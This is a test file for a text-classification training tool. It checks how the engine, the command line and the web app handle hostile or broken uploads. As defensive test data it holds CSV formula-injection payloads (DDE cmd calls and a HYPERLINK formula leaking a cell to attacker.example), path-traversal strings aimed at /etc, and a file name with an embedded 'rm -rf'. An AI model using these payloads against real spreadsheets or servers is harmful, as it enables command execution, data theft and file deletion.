"""Hostile or broken data through the engine, the CLI and the app's uploads: empty, not UTF-8, no usable
columns, empty texts, one class, mixed label types, very long texts, oversized uploads, hostile file names,
and spreadsheet formulas (only text to training; neutralised in the Compare page's CSV export).
"""

import csv
import io
import json

import pytest
from app_support import alerts, completed, error_after, open_app, run_until
from attack_support import TINY, TINY_ARGS, assert_one_error_line, cli

from gradacc.analysis.compare import FORMULA_STARTS
from gradacc.config import RunConfig
from gradacc.training.sources.data import load_text_data
from gradacc.training.run.engine import train
from gradacc.errors import GradaccError
from gradacc.events import Recorder

RUN_TIMEOUT_S = 120
UPLOAD = "upload a CSV / JSONL file"
FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click\")"]
LONG_TEXT = " ".join(f"word{i}" for i in range(200))  # far more than 32 tokens


def table(rows, header="text,label") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header.split(","))
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def reviews(n=60):
    return [(f"the movie was {'great' if i % 2 else 'awful'} number {i}", "pos" if i % 2 else "neg") for i in range(n)]


def people(n=100) -> bytes:
    """Reviews with columns a careless pick could take for the label: an author per row (an id), a free-text
    comment, and 30 topics (too many classes for 100 rows); only sentiment is a label."""
    return table([(t, f"author{i}", l, f"I read review number {i} on a rainy day", f"topic{i % 30}")
                  for i, (t, l) in enumerate(reviews(n))], header="text,author,sentiment,comment,topic")


def jsonl(records) -> bytes:
    return "\n".join(json.dumps(r) for r in records).encode("utf-8")


ONE_COLUMN = table([(t,) for t, _ in reviews()], header="text")
# name, content, field the refusal belongs to, what it says
BAD_FILES = [
    ("empty.csv", b"", "dataset", "is empty"),
    ("latin1.csv", "text,label\ncaf\xe9 cr\xe8me,1\nna\xefve,0\n".encode("latin-1"), "dataset", "is not UTF-8 text"),
    ("no-label.csv", ONE_COLUMN, "label_column",
     "Could not find a label column (looked for label, labels, target, class, sentiment, category); columns are text."),
    ("no-text.csv", table([(i, i % 2) for i in range(20)], header="id,stars"), "text_column",
     "Could not find a text column"),
    ("empty-texts.csv", table([("", "pos"), ("   ", "neg"), ("", "neg")]), "dataset",
     "No row has both a non-empty text and a label."),
    ("one-class.csv", table([(t, "pos") for t, _ in reviews()]), "label_column",
     "'label' cannot be a label: every row has the same label ('pos')"),
    ("mixed.jsonl", jsonl([{"text": t, "label": 1 if i % 2 else "neg"} for i, (t, _) in enumerate(reviews())]),
     "label_column", "Labels mix numbers and text"),
]


# ---- the engine ----------------------------------------------------------------------------------

@pytest.mark.parametrize("name,content,field,message", BAD_FILES, ids=[f[0] for f in BAD_FILES])
def test_engine_refuses_bad_data_naming_the_field(name, content, field, message, data_dir):
    path = data_dir / name
    path.write_bytes(content)
    with pytest.raises(GradaccError) as raised:
        load_text_data(RunConfig(dataset=str(path), **TINY))
    assert message in raised.value.message
    assert raised.value.field == field


def test_formula_like_cells_are_only_text_to_training(data_dir, one_torch_thread):
    rows = [(FORMULAS[i % len(FORMULAS)] + f" row {i}", "=A1" if i % 2 else "+B2") for i in range(60)]
    path = data_dir / "formulas.csv"
    path.write_bytes(table(rows))
    data = load_text_data(RunConfig(dataset=str(path), **TINY))
    assert set(data.train_texts + data.eval_texts) == {text for text, _ in rows}  # verbatim, nothing evaluated
    assert data.label_names == ["+B2", "=A1"]
    ended = train(RunConfig(dataset=str(path), **TINY))
    assert ended["status"] == "completed", ended["reason"]


def test_very_long_texts_are_truncated_and_the_run_says_so(data_dir, one_torch_thread):
    path = data_dir / "long.csv"
    path.write_bytes(table([(f"{LONG_TEXT} {i}" if i < 10 else t, l) for i, (t, l) in enumerate(reviews())]))
    recorder = Recorder()
    ended = train(RunConfig(dataset=str(path), **TINY), recorder)
    assert ended["status"] == "completed", ended["reason"]
    notes = recorder.of("run_started")[0]["notes"]
    assert "10 text(s) longer than 32 tokens were truncated." in notes, notes


def test_a_byte_order_mark_does_not_hide_a_column(data_dir):
    """Excel's "CSV UTF-8" and some editors' JSONL start with a BOM."""
    for name, content in (("bom.csv", table(reviews())), ("bom.jsonl", jsonl([{"text": t, "label": l}
                                                                               for t, l in reviews()]))):
        path = data_dir / name
        path.write_bytes(b"\xef\xbb\xbf" + content)
        assert load_text_data(RunConfig(dataset=str(path), **TINY)).label_names == ["neg", "pos"], name


def test_rows_without_text_are_dropped_and_the_run_says_so(data_dir):
    path = data_dir / "gaps.csv"
    path.write_bytes(table(reviews() + [("", "pos"), ("  ", "neg")]))
    assert "Dropped 2 row(s) with an empty text or label." in load_text_data(RunConfig(dataset=str(path), **TINY)).notes


# ---- the command line ----------------------------------------------------------------------------

@pytest.mark.parametrize("name,content,field,message", BAD_FILES, ids=[f[0] for f in BAD_FILES])
def test_cli_refuses_bad_data_with_one_error_line(name, content, field, message, data_dir, capsys, one_torch_thread):
    path = data_dir / name
    path.write_bytes(content)
    code, out, err = cli(capsys, "train", *TINY_ARGS, "--dataset", str(path))
    assert_one_error_line(code, out, err, 2, message)


@pytest.mark.parametrize("args,message", [
    (["--text-column", "body"], "There is no text column 'body'; columns are text, label."),
    (["--label-column", "stars"], "There is no label column 'stars'; columns are text, label."),
    (["--label-column", "text"], "The text and the label column are both 'text'"),
])
def test_cli_refuses_a_named_column_that_cannot_be_used(args, message, data_dir, capsys, one_torch_thread):
    path = data_dir / "reviews.csv"
    path.write_bytes(table(reviews()))
    code, out, err = cli(capsys, "train", *TINY_ARGS, "--dataset", str(path), *args)
    assert_one_error_line(code, out, err, 2, message)


@pytest.mark.parametrize("column,reason", [
    ("author", "it has a different value in almost every row (100 values in 100 rows), like an id or a name."),
    ("comment", "it holds free text (100 different sentences in 100 rows), not classes."),
    ("topic", "it has 30 classes, more than 100 rows can teach (at most 20: 5 rows per class on average, "
              "1000 at most)."),
])
def test_cli_refuses_a_label_column_that_cannot_be_a_label_and_names_one_that_works(column, reason, data_dir, capsys):
    path = data_dir / "people.csv"
    path.write_bytes(people())
    code, out, err = cli(capsys, "train", *TINY_ARGS, "--dataset", str(path), "--label-column", column)
    assert_one_error_line(code, out, err, 2, f"--label-column {column!r} cannot be a label: {reason} "
                                             "Pick one: 'sentiment' would work.")
    assert out == "", "refused before training"


def test_auto_detection_never_picks_an_id_like_label_column(data_dir):
    rows = [(t, f"id-{i}", l) for i, (t, l) in enumerate(reviews(100))]
    path = data_dir / "ids.csv"
    path.write_bytes(table(rows, header="text,label,sentiment"))  # 'label' is first by name, but an id
    assert load_text_data(RunConfig(dataset=str(path), **TINY)).label_names == ["neg", "pos"]
    path.write_bytes(table([(t, i) for t, i, _ in rows], header="text,label"))
    with pytest.raises(GradaccError) as raised:
        load_text_data(RunConfig(dataset=str(path), **TINY))
    assert raised.value.message == ("Label column 'label' cannot be a label: it has a different value in almost every "
                                    "row (100 values in 100 rows), like an id or a name. No column of this data "
                                    "would work as a label.")
    path.write_bytes(table([(t, f"author{i}", l) for i, (t, l) in enumerate(reviews(100))],
                           header="text,author,mood"))  # no column is named like a label: say which would work
    with pytest.raises(GradaccError) as raised:
        load_text_data(RunConfig(dataset=str(path), **TINY))
    assert raised.value.message.endswith("Name one explicitly: 'mood' would work.")
    assert raised.value.field == "label_column"


def test_cli_reads_the_users_own_file_wherever_it_lies(data_dir, tmp_path_factory, capsys, monkeypatch,
                                                       one_torch_thread):
    home = tmp_path_factory.mktemp("home")  # outside GRADACC_DATA_DIRS (data_dir) and the working directory
    (home / "data").mkdir()
    (home / "data" / "reviews.csv").write_bytes(table(reviews()))
    monkeypatch.setenv("HOME", str(home))
    code, out, err = cli(capsys, "train", *TINY_ARGS, "--dataset", "~/data/reviews.csv")
    assert code == 0, err
    assert "completed after" in out
    # The app's launcher passes --confine: a visitor's run stays inside the deployment's folders.
    code, out, err = cli(capsys, "train", *TINY_ARGS, "--confine", "--dataset", "~/data/reviews.csv")
    assert_one_error_line(code, out, err, 2, "--dataset '~/data/reviews.csv' is outside the allowed folders")


def test_cli_trains_on_long_texts_and_prints_the_truncation_note(data_dir, capsys, one_torch_thread):
    path = data_dir / "long.csv"
    path.write_bytes(table([(f"{LONG_TEXT} {i}", l) for i, (_, l) in enumerate(reviews())]))
    code, out, err = cli(capsys, "train", *TINY_ARGS, "--dataset", str(path))
    assert code == 0, err
    assert "note: 60 text(s) longer than 32 tokens were truncated." in out.splitlines()


# ---- the app -------------------------------------------------------------------------------------

def upload(at, name: str, content: bytes, mime: str = "text/csv"):
    at.selectbox(key="form.train.dataset_choice").set_value(UPLOAD).run()
    at.file_uploader[0].set_value((name, content, mime)).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def train_to_the_end(at):
    """A tiny run on what the form holds, until it has completed."""
    for field, value in TINY.items():
        at.number_input(key=f"form.train.{field}").set_value(value)
    at.run()
    at.button(key="start").click().run()
    return run_until(at, completed, RUN_TIMEOUT_S, "the run to complete")


def picker_key(at, label: str) -> str:
    return next(s.key for s in at.selectbox if s.label == label)


# The app's column pickers only offer columns the file has, and pre-select the first and last when no name
# matches (no-text.csv: id and stars, shown to the visitor); a one-column file puts that column in both.
APP_BAD_FILES = [f for f in BAD_FILES if f[0] not in ("no-text.csv", "no-label.csv")] + [
    ("no-label.csv", ONE_COLUMN, "label_column", "The text and the label column are both 'text'"),
]


@pytest.mark.parametrize("name,content,field,message", APP_BAD_FILES, ids=[f[0] for f in APP_BAD_FILES])
def test_app_refuses_a_bad_upload_next_to_the_right_field(name, content, field, message, app_home):
    at = upload(open_app(), name, content, "application/json" if name.endswith("jsonl") else "text/csv")
    widget = {"dataset": "train.upload", "text_column": picker_key(at, "Text column") if field == "text_column"
              else None, "label_column": picker_key(at, "Label column") if field == "label_column" else None}[field]
    shown = error_after(at, widget)
    assert shown is not None and message in shown, (shown, alerts(at))
    assert at.button(key="start").disabled
    # The page is still usable: back to the built-in data, and Start is enabled again.
    at.selectbox(key="form.train.dataset_choice").set_value("builtin-sentiment").run()
    assert not at.exception and not at.button(key="start").disabled


def test_app_never_pre_picks_an_id_column_and_refuses_it_next_to_the_picker(app_home):
    # The file: 100 authors in 100 rows. Today the last column was pre-picked, trained, "completed".
    authors = table([(t, f"author{i}") for i, (t, _) in enumerate(reviews(100))], header="text,author")
    at = upload(open_app(), "authors.csv", authors)
    shown = error_after(at, picker_key(at, "Label column"))
    assert shown == ("Label column 'author' cannot be a label: it has a different value in almost every row "
                     "(100 values in 100 rows), like an id or a name. No column of this data would work as a label.")
    assert at.button(key="start").disabled
    at = upload(open_app(), "people.csv", people())
    picker = at.selectbox(key=picker_key(at, "Label column"))
    assert picker.value == "sentiment", "the picker starts on the one column that can be a label"
    assert error_after(at, picker.key) is None and not at.button(key="start").disabled
    picker.set_value("topic").run()
    assert "'topic' cannot be a label: it has 30 classes" in error_after(at, picker.key)


@pytest.mark.parametrize("name,message", [
    ("../../etc/passwd.csv", "Dataset '../../etc/passwd.csv' is outside the allowed folders"),
    ("/etc", "Dataset '/etc' is outside the allowed folders"),
    ("!!garbage//data??", "Dataset must be built-in data, a local file or folder, or a hub id; got '!!garbage//data??', "
                          "which is not a valid hub id"),
])
def test_app_refuses_a_dataset_path_outside_the_allowed_folders_as_it_is_typed(name, message, app_home):
    at = open_app()
    at.selectbox(key="form.train.dataset_choice").set_value("other: hub id or local path").run()
    at.text_input(key="form.train.dataset_custom").set_value(name).run()
    assert message in (error_after(at, "form.train.dataset_custom") or ""), alerts(at)
    assert at.button(key="start").disabled and not at.exception


def test_app_refuses_an_upload_over_the_size_cap_and_keeps_nothing(app_home, monkeypatch):
    monkeypatch.setenv("GRADACC_MAX_UPLOAD_MB", "0.001")  # 1000 bytes
    content = table(reviews(200))
    assert len(content) > 1000
    at = upload(open_app(), "big.csv", content)
    assert f"'big.csv' is {len(content) / 1e6:.1f} MB; this deployment accepts uploads up to 0.001 MB." in \
        error_after(at, "train.upload")
    assert at.button(key="start").disabled
    assert not list((app_home / "uploads").glob("*.csv")), "an oversized upload must not be written to disk"


def test_app_stores_an_upload_under_a_safe_name_whatever_it_is_called(app_home):
    at = upload(open_app(), "../../../../etc/cron.d/evil name;rm -rf.csv", table(reviews()))
    saved = [p for p in (app_home / "uploads").iterdir() if not p.name.startswith(".")]
    assert len(saved) == 1 and saved[0].parent == app_home / "uploads"
    assert saved[0].name.startswith("evil_name_rm_-rf-") and saved[0].suffix == ".csv"
    assert not at.error and not at.button(key="start").disabled


def test_app_trains_on_long_texts_and_shows_the_truncation_note(app_home, one_torch_thread):
    at = upload(open_app(), "long.csv", table([(f"{LONG_TEXT} {i}", l) for i, (_, l) in enumerate(reviews())]))
    train_to_the_end(at)
    captions = [c.value for c in at.caption]
    assert "ℹ️ 60 text(s) longer than 32 tokens were truncated." in captions, captions


@pytest.fixture
def captured_downloads(monkeypatch):
    """What every download button on the page would hand the browser, by file name."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    files = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def keep(self, path_or_data, mimetype, kind, filename=None):
        files[filename] = path_or_data
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    return files


def test_formula_cells_train_as_text_and_the_compare_csv_neutralises_formulas(app_home, captured_downloads,
                                                                               one_torch_thread):
    rows = [(FORMULAS[i % len(FORMULAS)] + f" row {i}", "=A1" if i % 2 else "+B2") for i in range(60)]
    train_to_the_end(upload(open_app(), "-2+3.csv", table(rows)))  # saved as -2_3-<hash>.csv: the minus survives
    # A second visitor names a "model" that is a formula: no hub id looks like that, so it never becomes a run.
    other = open_app()
    other.selectbox(key="form.train.model_choice").set_value("other: hub id or local folder").run()
    other.text_input(key="form.train.model_custom").set_value(FORMULAS[4]).run()
    assert "which is not a valid hub id" in error_after(other, "form.train.model_custom")
    assert other.button(key="start").disabled

    compare = open_app("compare")
    assert not compare.exception
    # One run: Compare picks none by itself (it wants two comparable runs); the visitor picks it.
    runs = compare.multiselect(key="compare_runs")
    runs.set_value(list(runs.options)[:1]).run()
    assert not compare.exception
    exported = captured_downloads["gradacc-runs.csv"]
    exported = exported.decode() if isinstance(exported, bytes) else exported
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not dangerous, dangerous
    assert any(cell.startswith("'-2_3-") and cell.endswith(".csv") for cell in cells)  # the dataset column
